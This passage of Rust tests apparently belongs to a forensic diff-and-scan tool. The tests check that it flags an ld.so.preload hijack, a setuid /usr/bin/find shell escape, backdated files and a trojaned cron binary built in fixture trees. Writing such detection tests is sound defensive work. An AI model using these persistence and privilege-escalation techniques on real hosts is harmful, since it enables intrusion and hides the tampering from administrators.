    assert!(String::from_utf8_lossy(&out.stderr).contains("/nonexistent/a"));
    let out = exhibit()
        .args(["scan", "/nonexistent/s"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn fail_on_severity_sets_exit_code() {
    let t = trees(&[]);
    write(&t.new, "etc/ld.so.preload", b"/tmp/x.so\n");
    let out = exhibit()
        .arg("diff")
        .arg(&t.old)
        .arg(&t.new)
        .args(["--fail-on", "high", "-q"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(1));
}

/// `chmod u+s /usr/bin/find` on a packaged binary: the content still
/// matches the package's md5sums, the mode does not. The setuid finding
/// keeps its severity (a package hash vouches for content, not mode) and
/// the shell-escape detector rates it critical, on the diff and on a scan
/// of the incident alone.
#[test]
fn a_packaged_binary_made_setuid_is_not_excused_by_its_package_hash() {
    let find = b"\x7fELF find, as packaged".to_vec();
    let list = format!("{}  usr/bin/find\n", md5_hex(&find));
    let t = trees(&[("var/lib/dpkg/info/findutils.md5sums", &list)]);
    for root in [&t.old, &t.new] {
        write(root, "usr/bin/find", &find);
        chmod(root, "usr/bin/find", 0o755);
    }
    chmod(&t.new, "usr/bin/find", 0o4755);
    let v = diff_json(&t, &[]);
    assert_eq!(change_of(&v, "/usr/bin/find").as_deref(), Some("metadata"));
    assert_has(&v, "/usr/bin/find", "privilege.shell_escape", "critical");
    assert_has(&v, "/usr/bin/find", "privilege.new_setuid_setgid", "high");
    let rated_low = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] == "/usr/bin/find")
        .flat_map(|f| f["evidence"].as_array().cloned().unwrap_or_default())
        .any(|e| e.as_str().unwrap_or("").contains("rated low"));
    assert!(
        !rated_low,
        "no finding on it is excused: {:#}",
        v["findings"]
    );
    let s = scan_json(&t.new);
    assert_has(&s, "/usr/bin/find", "privilege.shell_escape", "critical");
    // The same file without the bit raises nothing of the kind.
    let s = scan_json(&t.old);
    assert!(
        findings_on(&s, "/usr/bin/find")
            .iter()
            .all(|(r, _)| r != "privilege.shell_escape"),
        "{:#}",
        s["findings"]
    );
}

/// A package installed today unpacks files with its build time as mtime:
/// `/etc/crontab` looks "backdated" (mtime years before ctime) but its
/// ctime is when dpkg wrote the package's `.list`. Such files are explained
/// and not flagged; a file no package owns, and a packaged file whose
/// content no longer matches the package, still are.
#[test]
fn files_a_package_just_installed_are_not_backdating() {
    let cron = b"\x7fELF cron, as packaged".to_vec();
    let md5s = format!("{}  usr/sbin/cron\n", md5_hex(&cron));
    let t = trees(&[
        ("srv/app/a.conf", "a\n"),
        ("srv/app/b.conf", "b\n"),
        ("srv/app/c.conf", "c\n"),
        ("srv/app/d.conf", "d\n"),
        ("usr/sbin/a", "a\n"),
        ("usr/sbin/b", "b\n"),
        ("usr/sbin/c", "c\n"),
        ("etc/a.conf", "a\n"),
        ("etc/b.conf", "b\n"),
        ("etc/c.conf", "c\n"),
        ("etc/default/a", "a\n"),
        ("etc/default/b", "b\n"),
        ("etc/default/c", "c\n"),
    ]);
    let years_ago = SystemTime::now() - Duration::from_secs(2 * 365 * 86400);
    let root = &t.new;
    write(root, "usr/sbin/cron", &cron);
    write(
        root,
        "etc/crontab",
        b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    );
    write(root, "var/lib/dpkg/info/cron.md5sums", md5s.as_bytes());
    // A configuration file the maintainer script installed through ucf.
    write(root, "etc/default/cron", b"EXTRA_OPTS=\"\"\n");
    write(root, "var/lib/ucf/registry", b"cron \t /etc/default/cron\n");
    for f in [
        "usr/sbin/cron",
        "etc/crontab",
        "etc/default/cron",
        "var/lib/dpkg/info/cron.md5sums",
    ] {
        set_mtime(root, f, years_ago);
    }
    // Not owned by any package, same times: backdated.
    write(root, "srv/app/evil.conf", b"x\n");
    set_mtime(root, "srv/app/evil.conf", years_ago);
    // dpkg writes the .list last, now.
    write(
        root,
        "var/lib/dpkg/info/cron.list",
        b"/.\n/etc\n/etc/crontab\n/usr\n/usr/sbin\n/usr/sbin/cron\n",
    );
    let timestamp_findings = |v: &Value, path: &str| -> Vec<(String, String)> {
        findings_on(v, path)
            .into_iter()
            .filter(|(r, _)| r.starts_with("timestamps."))
            .collect()
    };
    for v in [diff_json(&t, &[]), scan_json(&t.new)] {
        for p in [
            "/etc/crontab",
            "/etc/default/cron",
            "/usr/sbin/cron",
            "/var/lib/dpkg/info/cron.md5sums",
        ] {
            assert!(
                timestamp_findings(&v, p).is_empty(),
                "{p} is explained by its package: {:?}",
                timestamp_findings(&v, p)
            );
        }
        assert!(
            !timestamp_findings(&v, "/srv/app/evil.conf").is_empty(),
            "a file no package owns is still flagged: {:#}",
            v["findings"]
        );
    }
    // The packaged binary replaced (content no longer as packaged) and
    // backdated: flagged again.
    write(root, "usr/sbin/cron", b"\x7fELF cron, trojaned");
    set_mtime(root, "usr/sbin/cron", years_ago);
    let v = diff_json(&t, &[]);
    assert!(
        !timestamp_findings(&v, "/usr/sbin/cron").is_empty(),
        "{:#}",
        v["findings"]
    );
}
